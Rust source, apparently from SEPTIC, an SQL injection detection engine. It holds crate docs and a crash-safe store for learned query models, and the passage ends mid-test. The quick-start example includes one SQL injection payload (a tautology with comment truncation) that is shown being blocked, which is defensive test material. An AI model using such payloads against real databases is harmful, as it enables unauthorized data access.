//! ## Modules (Figure 1 of the paper)
//!
//! * [`septic::Septic`](crate::Septic) — the QS&QM manager orchestrating
//!   everything behind the DBMS hook;
//! * [`id`] — the ID generator (external `/* qid:… */` + internal
//!   structural hash);
//! * [`model`] — query structures and query models (data → ⊥);
//! * [`detector`] — the two-step SQLI algorithm (structural + syntactic);
//! * [`plugins`] — stored-injection plugins (stored XSS, RFI, LFI, OSCI,
//!   RCE);
//! * [`store`] — the QM-learned store (in memory + persisted);
//! * [`logger`] — the event register;
//! * [`mode`] — operation modes and the Table I action matrix.
//!
//! ## Quick start
//!
//! ```
//! use std::sync::Arc;
//! use septic::{Mode, Septic};
//! use septic_dbms::Server;
//!
//! let server = Server::new();
//! let conn = server.connect();
//! conn.execute("CREATE TABLE tickets (reservID VARCHAR(16), creditCard INT)")?;
//!
//! let septic = Arc::new(Septic::new());
//! server.install_guard(septic.clone());
//!
//! // 1. Train with benign traffic.
//! septic.set_mode(Mode::Training);
//! conn.execute("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234")?;
//!
//! // 2. Switch to prevention.
//! septic.set_mode(Mode::PREVENTION);
//!
//! // Benign traffic still flows; the mimicry attack is dropped.
//! conn.execute("SELECT * FROM tickets WHERE reservID = 'ZZ11' AND creditCard = 4321")?;
//! let attack = conn.execute(
//!     "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0",
//! );
//! assert!(attack.is_err());
//! # Ok::<(), septic_dbms::DbError>(())
//! ```

pub mod detector;
pub mod id;
pub mod logger;
pub mod mode;
pub mod model;
pub mod plugins;
pub mod septic;
pub mod store;

pub use detector::{detect_sqli, detect_sqli_vm, SqliKind, SqliOutcome};
pub use id::{IdGenerator, Interner, QueryId};
pub use logger::{AttackAction, Event, EventKind, EventKindCounts, Logger, StageSpansUs};
pub use mode::{FailurePolicyMatrix, Mode, ModeActions, NormalMode};
pub use model::QueryModel;
pub use plugins::{Plugin, StoredAttack};
pub use septic::{CounterSnapshot, DetectionConfig, EngineConfig, Septic};
pub use septic_dbms::FailurePolicy;
pub use store::{
    backup_path, journal_path, quarantine_path, CompiledModel, FsBackend, LoadReport, ModelStore,
    StoreBackend,
};
