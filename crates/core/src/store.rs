//! The **QM learned** store: query models indexed by query identifier,
//! kept in memory and optionally persisted ("All query models are in memory
//! and are stored persistently" — Section IV-C).
//!
//! Models learned *incrementally* in normal mode are held in
//! **quarantine** until the administrator decides whether the query that
//! produced them was benign (approve) or malicious (reject) — the
//! Section II-E workflow: "Later, the programmer/administrator will have
//! to decide if the query model comes from a malicious or a benign query."
//! Rejected identifiers are remembered: the same query arriving again is
//! refused instead of being re-learned.
//!
//! # Crash safety
//!
//! Persistence is designed so that no crash or torn write can leave the
//! store unreadable:
//!
//! * snapshots are written to a temp file, **read back and verified**,
//!   then committed with an atomic rename; the previous snapshot is kept
//!   as `<path>.bak`;
//! * every snapshot carries a versioned envelope header
//!   (`SEPTIC-STORE v3 crc32=… len=…`) so corruption is *detected* at
//!   load time instead of producing garbage models; v2 files (same
//!   payload schema, written before models carried compiled programs)
//!   still load — programs are derived state and are recompiled;
//! * a corrupt snapshot is quarantined (renamed to `<path>.corrupt`) and
//!   the loader recovers from the backup instead of erroring;
//! * when persistence is attached, every mutation is appended to a
//!   `<path>.journal` of JSON lines and replayed on load, so models
//!   learned incrementally since the last checkpoint survive a crash. A
//!   torn trailing journal line (crash mid-append) is tolerated.
//!
//! All file operations go through the [`StoreBackend`] seam so the
//! `septic-faults` crate can inject I/O errors and torn writes
//! deterministically.

use std::collections::{HashMap, HashSet};
use std::fmt;
use std::hash::{BuildHasherDefault, Hasher};
use std::io;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, OnceLock};

use parking_lot::RwLock;
use serde::{Deserialize, Serialize};

use crate::id::QueryId;
use crate::model::QueryModel;

// ---------------------------------------------------------------------------
// Hot-path hashing
// ---------------------------------------------------------------------------

/// FNV-1a [`Hasher`] for the shard maps. `QueryId::internal` is already a
/// 64-bit structural hash, so the default SipHash would be pure overhead on
/// the per-query lookup; FNV folds the (short) external id and the internal
/// hash in a few cycles. Keys are not attacker-controlled allocation sinks:
/// the set of ids is bounded by the trained application's program points.
#[derive(Debug, Default, Clone, Copy)]
pub struct FnvHasher(u64);

impl Hasher for FnvHasher {
    fn finish(&self) -> u64 {
        self.0
    }

    fn write(&mut self, bytes: &[u8]) {
        let mut hash = if self.0 == 0 {
            0xcbf2_9ce4_8422_2325
        } else {
            self.0
        };
        for &b in bytes {
            hash ^= u64::from(b);
            hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
        }
        self.0 = hash;
    }

    fn write_u64(&mut self, v: u64) {
        // Mix rather than re-digest: `internal` is already well distributed.
        self.0 = (self.0 ^ v).wrapping_mul(0x0000_0100_0000_01b3);
    }
}

type FnvBuild = BuildHasherDefault<FnvHasher>;

/// Number of shards in the model map. A small power of two: enough that
/// eight session threads rarely collide on a shard lock, small enough that
/// full-store iteration (persistence, status) stays trivial.
const SHARD_COUNT: usize = 16;

type Shard = RwLock<HashMap<QueryId, CompiledModel, FnvBuild>>;

/// A learned model together with its compiled comparison program.
///
/// The program is derived state: it is compiled exactly once — at train
/// or load time — and cached in the shard next to the model, so the
/// detection hot path gets both for one shard read lock and two
/// refcount bumps. It is **never** serialized (see the v3 envelope
/// note); loading a persisted store recompiles.
#[derive(Debug, Clone)]
pub struct CompiledModel {
    model: Arc<QueryModel>,
    program: Arc<septic_vm::Program>,
}

impl CompiledModel {
    fn new(model: Arc<QueryModel>) -> Self {
        let program = Arc::new(septic_vm::compile_model(model.items()));
        CompiledModel { model, program }
    }

    /// The learned model.
    #[must_use]
    pub fn model(&self) -> &Arc<QueryModel> {
        &self.model
    }

    /// The model's compiled comparison program.
    #[must_use]
    pub fn program(&self) -> &Arc<septic_vm::Program> {
        &self.program
    }
}

// ---------------------------------------------------------------------------
// Storage backend seam
// ---------------------------------------------------------------------------

/// The primitive file operations the store's persistence uses. The
/// production implementation is [`FsBackend`]; fault-injection backends
/// wrap another backend and fail scripted operations.
pub trait StoreBackend: Send + Sync + fmt::Debug {
    /// Reads the whole file.
    ///
    /// # Errors
    ///
    /// Underlying I/O errors; `NotFound` when the file does not exist.
    fn read(&self, path: &Path) -> io::Result<Vec<u8>>;

    /// Creates/truncates the file and writes `data`.
    ///
    /// # Errors
    ///
    /// Underlying I/O errors.
    fn write(&self, path: &Path, data: &[u8]) -> io::Result<()>;

    /// Appends one line (a trailing `\n` is added) to the file, creating
    /// it if needed.
    ///
    /// # Errors
    ///
    /// Underlying I/O errors.
    fn append_line(&self, path: &Path, line: &str) -> io::Result<()>;

    /// Renames `from` to `to`, replacing `to` if it exists.
    ///
    /// # Errors
    ///
    /// Underlying I/O errors.
    fn rename(&self, from: &Path, to: &Path) -> io::Result<()>;

    /// True when the file exists.
    fn exists(&self, path: &Path) -> bool;

    /// Removes the file.
    ///
    /// # Errors
    ///
    /// Underlying I/O errors; `NotFound` when the file does not exist.
    fn remove(&self, path: &Path) -> io::Result<()>;
}

/// The real-filesystem backend.
#[derive(Debug, Clone, Copy, Default)]
pub struct FsBackend;

impl StoreBackend for FsBackend {
    fn read(&self, path: &Path) -> io::Result<Vec<u8>> {
        std::fs::read(path)
    }

    fn write(&self, path: &Path, data: &[u8]) -> io::Result<()> {
        std::fs::write(path, data)
    }

    fn append_line(&self, path: &Path, line: &str) -> io::Result<()> {
        use std::io::Write;
        let mut file = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(path)?;
        file.write_all(line.as_bytes())?;
        file.write_all(b"\n")
    }

    fn rename(&self, from: &Path, to: &Path) -> io::Result<()> {
        std::fs::rename(from, to)
    }

    fn exists(&self, path: &Path) -> bool {
        path.exists()
    }

    fn remove(&self, path: &Path) -> io::Result<()> {
        std::fs::remove_file(path)
    }
}

/// `<path><suffix>` as a sibling file.
fn sibling(path: &Path, suffix: &str) -> PathBuf {
    let mut name = path.as_os_str().to_os_string();
    name.push(suffix);
    PathBuf::from(name)
}

/// Where the previous snapshot is kept across saves.
#[must_use]
pub fn backup_path(path: &Path) -> PathBuf {
    sibling(path, ".bak")
}

/// Where incremental mutations are journaled between checkpoints.
#[must_use]
pub fn journal_path(path: &Path) -> PathBuf {
    sibling(path, ".journal")
}

/// Where a corrupt snapshot is moved for post-mortem inspection.
#[must_use]
pub fn quarantine_path(path: &Path) -> PathBuf {
    sibling(path, ".corrupt")
}

fn tmp_path(path: &Path) -> PathBuf {
    sibling(path, ".tmp")
}

// ---------------------------------------------------------------------------
// Envelope (versioned header + CRC32 checksum)
// ---------------------------------------------------------------------------

const ENVELOPE_MAGIC: &str = "SEPTIC-STORE";
/// v3 (current): same payload schema as v2, bumped to pin down the
/// contract that compiled-program metadata is *never* part of the
/// serialized store — programs are derived state, recompiled on load.
const ENVELOPE_VERSION: &str = "v3";
/// Versions `unseal` accepts: v2 files (written before the bytecode VM
/// existed) carry the same payload schema and still load cleanly.
const ENVELOPE_ACCEPTED: [&str; 2] = ["v2", "v3"];

/// CRC32 (IEEE 802.3 polynomial) over `data`.
fn crc32(data: &[u8]) -> u32 {
    static TABLE: OnceLock<[u32; 256]> = OnceLock::new();
    let table = TABLE.get_or_init(|| {
        let mut table = [0u32; 256];
        for (i, entry) in table.iter_mut().enumerate() {
            let mut c = i as u32;
            for _ in 0..8 {
                c = if c & 1 != 0 {
                    0xEDB8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                };
            }
            *entry = c;
        }
        table
    });
    let mut crc = 0xFFFF_FFFF_u32;
    for &byte in data {
        crc = table[((crc ^ u32::from(byte)) & 0xFF) as usize] ^ (crc >> 8);
    }
    !crc
}

/// Wraps a JSON payload in the versioned, checksummed envelope.
fn seal(payload: &str) -> Vec<u8> {
    format!(
        "{ENVELOPE_MAGIC} {ENVELOPE_VERSION} crc32={:08x} len={}\n{payload}",
        crc32(payload.as_bytes()),
        payload.len()
    )
    .into_bytes()
}

/// Verifies the envelope and returns the payload. Files without the
/// envelope header (written before v2) are accepted verbatim as legacy
/// payloads — their integrity is checked only by JSON parsing.
fn unseal(bytes: &[u8]) -> Result<&str, String> {
    let text = std::str::from_utf8(bytes).map_err(|e| format!("not valid UTF-8: {e}"))?;
    if !text.starts_with(ENVELOPE_MAGIC) {
        return Ok(text);
    }
    let (header, payload) = text
        .split_once('\n')
        .ok_or_else(|| "envelope header without payload".to_string())?;
    let fields: Vec<&str> = header.split_whitespace().collect();
    if fields.len() != 4 || fields[0] != ENVELOPE_MAGIC {
        return Err(format!("malformed envelope header: {header:?}"));
    }
    if !ENVELOPE_ACCEPTED.contains(&fields[1]) {
        return Err(format!("unsupported store version {:?}", fields[1]));
    }
    let crc_field = fields[2]
        .strip_prefix("crc32=")
        .and_then(|v| u32::from_str_radix(v, 16).ok())
        .ok_or_else(|| format!("malformed crc32 field: {:?}", fields[2]))?;
    let len_field = fields[3]
        .strip_prefix("len=")
        .and_then(|v| v.parse::<usize>().ok())
        .ok_or_else(|| format!("malformed len field: {:?}", fields[3]))?;
    if payload.len() != len_field {
        return Err(format!(
            "length mismatch: envelope says {len_field}, payload has {}",
            payload.len()
        ));
    }
    let actual = crc32(payload.as_bytes());
    if actual != crc_field {
        return Err(format!(
            "checksum mismatch: envelope says {crc_field:08x}, payload is {actual:08x}"
        ));
    }
    Ok(payload)
}

// ---------------------------------------------------------------------------
// Persistence formats
// ---------------------------------------------------------------------------

/// Serialized form of the store. Models are held behind `Arc` so building
/// a snapshot from the live shards is a refcount bump per model, not a
/// deep clone.
#[derive(Debug, Default, Serialize, Deserialize)]
struct PersistedStore {
    models: Vec<(QueryId, Arc<QueryModel>)>,
    #[serde(default)]
    quarantine: Vec<QueryId>,
    #[serde(default)]
    rejected: Vec<QueryId>,
}

/// One journaled mutation (a JSON line in `<path>.journal`).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
enum JournalOp {
    /// Explicit training learned a model (and lifted any rejection).
    Learn { id: QueryId, model: Arc<QueryModel> },
    /// Incremental learning stored a model into quarantine.
    LearnProvisional { id: QueryId, model: Arc<QueryModel> },
    /// Administrator approved a quarantined model.
    Approve { id: QueryId },
    /// Administrator rejected a model; the identifier is blacklisted.
    Reject { id: QueryId },
    /// A model was removed.
    Forget { id: QueryId },
    /// The whole store was cleared.
    Clear,
}

/// An attached persistence target: mutations are journaled through
/// `backend` next to `path`.
#[derive(Debug, Clone)]
struct Persistence {
    backend: Arc<dyn StoreBackend>,
    path: PathBuf,
}

/// What a [`ModelStore::load_from`]/[`ModelStore::load_with`] call found
/// and did.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct LoadReport {
    /// Models restored from the snapshot (before journal replay).
    pub models_loaded: usize,
    /// Journal operations replayed on top of the snapshot.
    pub journal_replayed: usize,
    /// Journal lines skipped because they did not parse (torn trailing
    /// writes from a crash mid-append).
    pub torn_journal_lines: usize,
    /// True when the primary snapshot was corrupt or missing and the
    /// loader fell back to the backup (or to an empty base) instead of
    /// erroring.
    pub recovered: bool,
    /// Why the primary snapshot was unusable, when it was.
    pub corruption: Option<String>,
}

// ---------------------------------------------------------------------------
// The store
// ---------------------------------------------------------------------------

/// Thread-safe store of learned query models plus the administrative
/// review state for incrementally-learned ones.
///
/// # Hot-path design
///
/// Models live behind `Arc` in a **sharded** map: [`ModelStore::get`] takes
/// one shard read lock (selected by the id's structural hash, so parallel
/// sessions rarely touch the same lock) and returns a refcount bump — the
/// `QueryModel` itself is never cloned on the query path, however large the
/// learned structure is. Mutations (training, review verdicts) take only
/// the affected shard's write lock; cross-shard snapshots are cold-path
/// (persistence, status display).
#[derive(Debug)]
pub struct ModelStore {
    shards: [Shard; SHARD_COUNT],
    /// Incrementally-learned models awaiting administrator review.
    quarantine: RwLock<HashSet<QueryId>>,
    /// Identifiers the administrator rejected as malicious.
    rejected: RwLock<HashSet<QueryId>>,
    /// Journaling target; `None` until [`ModelStore::attach_persistence`].
    persist: RwLock<Option<Persistence>>,
    /// Journal appends that failed (the query path never fails on them).
    journal_errors: AtomicU64,
    /// Model→program compilations performed (train and load time).
    compiles: AtomicU64,
    /// Telemetry handles; `None` until [`ModelStore::attach_vm_metrics`].
    vm_metrics: RwLock<Option<VmMetrics>>,
}

/// Registry handles mirroring the store's compiled-program state:
/// `septic_vm_compiles_total` (monotone) and `septic_vm_cached_programs`
/// (a gauge — one program is cached per learned model).
#[derive(Debug, Clone)]
struct VmMetrics {
    compiles: Arc<septic_telemetry::Counter>,
    cached: Arc<septic_telemetry::Counter>,
}

impl Default for ModelStore {
    fn default() -> Self {
        ModelStore {
            shards: std::array::from_fn(|_| Shard::default()),
            quarantine: RwLock::default(),
            rejected: RwLock::default(),
            persist: RwLock::default(),
            journal_errors: AtomicU64::new(0),
            compiles: AtomicU64::new(0),
            vm_metrics: RwLock::default(),
        }
    }
}

impl ModelStore {
    /// Creates an empty store.
    #[must_use]
    pub fn new() -> Self {
        ModelStore::default()
    }

    /// The shard responsible for an identifier. `internal` is already a
    /// quality 64-bit hash, so its low bits pick the shard directly.
    fn shard(&self, id: &QueryId) -> &Shard {
        &self.shards[(id.internal as usize) & (SHARD_COUNT - 1)]
    }

    /// Attaches a persistence target: from now on every mutation is
    /// appended to the journal next to `path` so it survives a crash
    /// between checkpoints. Journal I/O failures never fail the mutation —
    /// they are counted in [`ModelStore::journal_errors`].
    pub fn attach_persistence(&self, backend: Arc<dyn StoreBackend>, path: impl Into<PathBuf>) {
        *self.persist.write() = Some(Persistence {
            backend,
            path: path.into(),
        });
    }

    /// Detaches the persistence target; mutations stop being journaled.
    pub fn detach_persistence(&self) {
        *self.persist.write() = None;
    }

    /// Journal appends that failed since creation.
    #[must_use]
    pub fn journal_errors(&self) -> u64 {
        self.journal_errors.load(Ordering::Relaxed)
    }

    /// Registers the store's compile counter and compiled-program cache
    /// gauge into `registry` (surfaced through `SHOW SEPTIC METRICS`).
    pub fn attach_vm_metrics(&self, registry: &septic_telemetry::MetricsRegistry) {
        let metrics = VmMetrics {
            compiles: registry.counter("septic_vm_compiles_total"),
            cached: registry.counter("septic_vm_cached_programs"),
        };
        metrics.compiles.set(self.compile_count());
        metrics.cached.set(self.len() as u64);
        *self.vm_metrics.write() = Some(metrics);
    }

    /// Model→program compilations performed since creation (training,
    /// journal replay and snapshot loads all compile).
    #[must_use]
    pub fn compile_count(&self) -> u64 {
        self.compiles.load(Ordering::Relaxed)
    }

    /// Compiles a model into its cached comparison program (counted).
    fn compiled(&self, model: Arc<QueryModel>) -> CompiledModel {
        self.compiles.fetch_add(1, Ordering::Relaxed);
        let compiled = CompiledModel::new(model);
        if let Some(m) = self.vm_metrics.read().as_ref() {
            m.compiles.inc();
        }
        compiled
    }

    /// Mirrors the cached-program count into the registry gauge after a
    /// mutation that changed the model population (cold path only).
    fn refresh_cached_gauge(&self) {
        if let Some(m) = self.vm_metrics.read().as_ref() {
            m.cached.set(self.len() as u64);
        }
    }

    fn journal(&self, op: &JournalOp) {
        let persist = self.persist.read();
        let Some(p) = persist.as_ref() else { return };
        let Ok(line) = serde_json::to_string(op) else {
            self.journal_errors.fetch_add(1, Ordering::Relaxed);
            return;
        };
        if p.backend
            .append_line(&journal_path(&p.path), &line)
            .is_err()
        {
            self.journal_errors.fetch_add(1, Ordering::Relaxed);
        }
    }

    /// Applies a journaled mutation without re-journaling it.
    fn apply(&self, op: JournalOp) {
        match op {
            JournalOp::Learn { id, model } => {
                self.rejected.write().remove(&id);
                if !self.shard(&id).read().contains_key(&id) {
                    let compiled = self.compiled(model);
                    self.shard(&id).write().entry(id).or_insert(compiled);
                }
            }
            JournalOp::LearnProvisional { id, model } => {
                if !self.shard(&id).read().contains_key(&id) {
                    let compiled = self.compiled(model);
                    let mut models = self.shard(&id).write();
                    if !models.contains_key(&id) {
                        models.insert(id.clone(), compiled);
                        drop(models);
                        self.quarantine.write().insert(id);
                    }
                }
            }
            JournalOp::Approve { id } => {
                self.quarantine.write().remove(&id);
            }
            JournalOp::Reject { id } => {
                self.quarantine.write().remove(&id);
                self.shard(&id).write().remove(&id);
                self.rejected.write().insert(id);
            }
            JournalOp::Forget { id } => {
                self.shard(&id).write().remove(&id);
            }
            JournalOp::Clear => {
                for shard in &self.shards {
                    shard.write().clear();
                }
                self.quarantine.write().clear();
                self.rejected.write().clear();
            }
        }
        self.refresh_cached_gauge();
    }

    /// Looks up the model for an identifier: one shard read lock and a
    /// refcount bump — the model is shared, never deep-cloned.
    #[must_use]
    pub fn get(&self, id: &QueryId) -> Option<Arc<QueryModel>> {
        self.shard(id)
            .read()
            .get(id)
            .map(|cm| Arc::clone(&cm.model))
    }

    /// Looks up the model *and* its compiled comparison program: still
    /// one shard read lock, now two refcount bumps — the program was
    /// compiled at train/load time, never on the query path.
    #[must_use]
    pub fn get_compiled(&self, id: &QueryId) -> Option<CompiledModel> {
        self.shard(id).read().get(id).cloned()
    }

    /// True when a model exists for the identifier.
    #[must_use]
    pub fn contains(&self, id: &QueryId) -> bool {
        self.shard(id).read().contains_key(id)
    }

    /// Stores a model from an explicit training run. Returns `true` when
    /// the model is new, `false` when a model with this identifier already
    /// existed (the paper: a query processed twice creates its model only
    /// once). Training expresses the administrator's intent that the query
    /// is benign, so a previous rejection of the identifier is lifted.
    pub fn learn(&self, id: QueryId, model: QueryModel) -> bool {
        let model = Arc::new(model);
        let is_new = if self.shard(&id).read().contains_key(&id) {
            false
        } else {
            let compiled = self.compiled(model.clone());
            let mut models = self.shard(&id).write();
            if models.contains_key(&id) {
                false
            } else {
                models.insert(id.clone(), compiled);
                true
            }
        };
        let lifted = self.rejected.write().remove(&id);
        if is_new || lifted {
            self.journal(&JournalOp::Learn { id, model });
        }
        if is_new {
            self.refresh_cached_gauge();
        }
        is_new
    }

    /// Stores a model learned *incrementally* (normal mode, unknown
    /// query): it is usable immediately but also placed in quarantine for
    /// administrator review. Returns `true` when the model is new.
    pub fn learn_provisional(&self, id: QueryId, model: QueryModel) -> bool {
        let model = Arc::new(model);
        let is_new = if self.shard(&id).read().contains_key(&id) {
            false
        } else {
            let compiled = self.compiled(model.clone());
            let mut models = self.shard(&id).write();
            if models.contains_key(&id) {
                false
            } else {
                models.insert(id.clone(), compiled);
                drop(models);
                self.quarantine.write().insert(id.clone());
                true
            }
        };
        if is_new {
            self.journal(&JournalOp::LearnProvisional { id, model });
            self.refresh_cached_gauge();
        }
        is_new
    }

    /// Identifiers awaiting administrator review.
    #[must_use]
    pub fn pending_review(&self) -> Vec<QueryId> {
        let quarantine = self.quarantine.read();
        let mut refs: Vec<&QueryId> = quarantine.iter().collect();
        refs.sort_unstable();
        refs.into_iter().cloned().collect()
    }

    /// Administrator verdict: the incrementally-learned query was benign.
    /// The model leaves quarantine and becomes permanent. Returns `false`
    /// when the id was not pending.
    pub fn approve(&self, id: &QueryId) -> bool {
        let removed = self.quarantine.write().remove(id);
        if removed {
            self.journal(&JournalOp::Approve { id: id.clone() });
        }
        removed
    }

    /// Administrator verdict: the incrementally-learned query was
    /// malicious. The model is removed and the identifier blacklisted so
    /// the same query is refused instead of re-learned. Returns `false`
    /// when the id was unknown.
    pub fn reject(&self, id: &QueryId) -> bool {
        self.quarantine.write().remove(id);
        let existed = self.shard(id).write().remove(id).is_some();
        let newly_rejected = self.rejected.write().insert(id.clone());
        if existed || newly_rejected {
            self.journal(&JournalOp::Reject { id: id.clone() });
        }
        if existed {
            self.refresh_cached_gauge();
        }
        existed
    }

    /// True when the administrator has rejected this identifier.
    #[must_use]
    pub fn is_rejected(&self, id: &QueryId) -> bool {
        self.rejected.read().contains(id)
    }

    /// Removes a model (the administrator decided a learned query was
    /// malicious — Section II-E).
    pub fn forget(&self, id: &QueryId) -> bool {
        let removed = self.shard(id).write().remove(id).is_some();
        if removed {
            self.journal(&JournalOp::Forget { id: id.clone() });
            self.refresh_cached_gauge();
        }
        removed
    }

    /// Number of learned models.
    #[must_use]
    pub fn len(&self) -> usize {
        self.shards.iter().map(|s| s.read().len()).sum()
    }

    /// True when nothing has been learned.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.shards.iter().all(|s| s.read().is_empty())
    }

    /// Drops every learned model and all review state.
    pub fn clear(&self) {
        for shard in &self.shards {
            shard.write().clear();
        }
        self.quarantine.write().clear();
        self.rejected.write().clear();
        self.journal(&JournalOp::Clear);
        self.refresh_cached_gauge();
    }

    /// Snapshot of all identifiers.
    #[must_use]
    pub fn ids(&self) -> Vec<QueryId> {
        self.shards
            .iter()
            .flat_map(|s| s.read().keys().cloned().collect::<Vec<_>>())
            .collect()
    }

    /// Serializes the store to JSON (the envelope payload).
    ///
    /// # Errors
    ///
    /// Propagates serializer errors.
    pub fn to_json(&self) -> serde_json::Result<String> {
        serde_json::to_string_pretty(&self.snapshot())
    }

    fn snapshot(&self) -> PersistedStore {
        // Hold every shard read guard for a consistent view, sort the
        // *references* (via `QueryId`'s derived `Ord`), then clone each
        // entry exactly once — the model side is an `Arc` refcount bump.
        let guards: Vec<_> = self.shards.iter().map(|s| s.read()).collect();
        let mut refs: Vec<(&QueryId, &CompiledModel)> =
            guards.iter().flat_map(|g| g.iter()).collect();
        refs.sort_unstable_by(|a, b| a.0.cmp(b.0));
        // Only the model is persisted: the compiled program is derived
        // state and is rebuilt when the snapshot is loaded.
        let list: Vec<(QueryId, Arc<QueryModel>)> = refs
            .into_iter()
            .map(|(k, v)| (k.clone(), Arc::clone(&v.model)))
            .collect();
        drop(guards);
        let sorted_set = |set: &HashSet<QueryId>| -> Vec<QueryId> {
            let mut refs: Vec<&QueryId> = set.iter().collect();
            refs.sort_unstable();
            refs.into_iter().cloned().collect()
        };
        let quarantine = sorted_set(&self.quarantine.read());
        let rejected = sorted_set(&self.rejected.read());
        PersistedStore {
            models: list,
            quarantine,
            rejected,
        }
    }

    fn install(&self, persisted: PersistedStore) {
        for shard in &self.shards {
            shard.write().clear();
        }
        for (id, model) in persisted.models {
            // Recompile on load: programs are never serialized.
            let compiled = self.compiled(model);
            self.shard(&id).write().insert(id, compiled);
        }
        *self.quarantine.write() = persisted.quarantine.into_iter().collect();
        *self.rejected.write() = persisted.rejected.into_iter().collect();
        self.refresh_cached_gauge();
    }

    /// Replaces the store contents from JSON produced by
    /// [`ModelStore::to_json`]. Unlike the file loaders this is strict:
    /// malformed input is an error, not a recovery.
    ///
    /// # Errors
    ///
    /// Propagates deserializer errors.
    pub fn load_json(&self, json: &str) -> serde_json::Result<usize> {
        let persisted: PersistedStore = serde_json::from_str(json)?;
        let n = persisted.models.len();
        self.install(persisted);
        Ok(n)
    }

    /// Persists the store to a file through the real filesystem. See
    /// [`ModelStore::save_with`].
    ///
    /// # Errors
    ///
    /// As [`ModelStore::save_with`].
    pub fn save_to(&self, path: &Path) -> io::Result<()> {
        self.save_with(&FsBackend, path)
    }

    /// Persists the store through `backend`, crash-safely:
    ///
    /// 1. the sealed snapshot is written to `<path>.tmp`;
    /// 2. the temp file is read back and verified byte-for-byte — a torn
    ///    or partial write is detected *before* commit, leaving the
    ///    current snapshot untouched;
    /// 3. the current snapshot (if any) is renamed to `<path>.bak`;
    /// 4. the temp file is renamed onto `path` (the commit point);
    /// 5. the journal is deleted — its operations are now folded into the
    ///    snapshot. A failure to delete is tolerated (replay is
    ///    idempotent) and counted in [`ModelStore::journal_errors`].
    ///
    /// # Errors
    ///
    /// I/O errors; serialization errors and detected torn writes surface
    /// as [`io::ErrorKind::InvalidData`].
    pub fn save_with(&self, backend: &dyn StoreBackend, path: &Path) -> io::Result<()> {
        let payload = self
            .to_json()
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
        let sealed = seal(&payload);
        let tmp = tmp_path(path);
        backend.write(&tmp, &sealed)?;

        let written = backend.read(&tmp)?;
        if written != sealed {
            let _ = backend.remove(&tmp);
            return Err(io::Error::new(
                io::ErrorKind::InvalidData,
                format!(
                    "torn write detected saving model store: wrote {} bytes, file has {}",
                    sealed.len(),
                    written.len()
                ),
            ));
        }

        if backend.exists(path) {
            backend.rename(path, &backup_path(path))?;
        }
        backend.rename(&tmp, path)?;

        match backend.remove(&journal_path(path)) {
            Ok(()) => {}
            Err(e) if e.kind() == io::ErrorKind::NotFound => {}
            Err(_) => {
                self.journal_errors.fetch_add(1, Ordering::Relaxed);
            }
        }
        Ok(())
    }

    /// Loads the store from a file written by [`ModelStore::save_to`],
    /// through the real filesystem. See [`ModelStore::load_with`].
    ///
    /// # Errors
    ///
    /// As [`ModelStore::load_with`].
    pub fn load_from(&self, path: &Path) -> io::Result<LoadReport> {
        self.load_with(&FsBackend, path)
    }

    /// Loads the store through `backend`, recovering instead of erroring:
    ///
    /// * a snapshot that fails envelope/checksum/JSON verification is
    ///   quarantined to `<path>.corrupt` and the loader falls back to
    ///   `<path>.bak` (or an empty base when no usable backup exists);
    /// * the journal, if present, is replayed on top; a torn trailing
    ///   line is skipped and counted.
    ///
    /// The previous in-memory contents are replaced.
    ///
    /// # Errors
    ///
    /// Only when nothing exists to load at all — no snapshot, no backup
    /// and no journal ([`io::ErrorKind::NotFound`]).
    pub fn load_with(&self, backend: &dyn StoreBackend, path: &Path) -> io::Result<LoadReport> {
        let mut report = LoadReport::default();
        let backup = backup_path(path);
        let journal = journal_path(path);

        let decode = |bytes: &[u8]| -> Result<PersistedStore, String> {
            let payload = unseal(bytes)?;
            serde_json::from_str::<PersistedStore>(payload).map_err(|e| e.to_string())
        };

        let mut persisted: Option<PersistedStore> = None;
        match backend.read(path) {
            Ok(bytes) => match decode(&bytes) {
                Ok(p) => persisted = Some(p),
                Err(reason) => {
                    // Corrupt snapshot: quarantine for post-mortem, recover.
                    let _ = backend.rename(path, &quarantine_path(path));
                    report.recovered = true;
                    report.corruption = Some(reason);
                }
            },
            Err(e) if e.kind() == io::ErrorKind::NotFound => {
                if !backend.exists(&backup) && !backend.exists(&journal) {
                    return Err(e);
                }
                report.recovered = true;
                report.corruption = Some("snapshot missing".to_string());
            }
            Err(e) => {
                report.recovered = true;
                report.corruption = Some(format!("snapshot unreadable: {e}"));
            }
        }

        if persisted.is_none() {
            if let Ok(bytes) = backend.read(&backup) {
                if let Ok(p) = decode(&bytes) {
                    persisted = Some(p);
                }
            }
        }

        let base = persisted.unwrap_or_default();
        report.models_loaded = base.models.len();
        self.install(base);

        if let Ok(bytes) = backend.read(&journal) {
            let text = String::from_utf8_lossy(&bytes);
            for line in text.lines() {
                if line.trim().is_empty() {
                    continue;
                }
                match serde_json::from_str::<JournalOp>(line) {
                    Ok(op) => {
                        self.apply(op);
                        report.journal_replayed += 1;
                    }
                    Err(_) => report.torn_journal_lines += 1,
                }
            }
        }

        Ok(report)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use septic_sql::{items, parse};

    fn model(sql: &str) -> QueryModel {
        QueryModel::from_structure(&items::lower_all(&parse(sql).expect("parse").statements))
    }

    fn id(n: u64) -> QueryId {
        QueryId {
            external: None,
            internal: n,
        }
    }

    /// A scratch file path unique to the calling test.
    fn scratch(test: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("septic-store-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        dir.join(format!("{test}.json"))
    }

    fn cleanup(path: &Path) {
        for p in [
            path.to_path_buf(),
            backup_path(path),
            journal_path(path),
            quarantine_path(path),
            tmp_path(path),
        ] {
            std::fs::remove_file(p).ok();
        }
    }

    #[test]
    fn learn_once_only() {
        let store = ModelStore::new();
        let m = model("SELECT 1");
        assert!(store.learn(id(1), m.clone()));
        assert!(!store.learn(id(1), m.clone()));
        assert_eq!(store.len(), 1);
        assert!(store.contains(&id(1)));
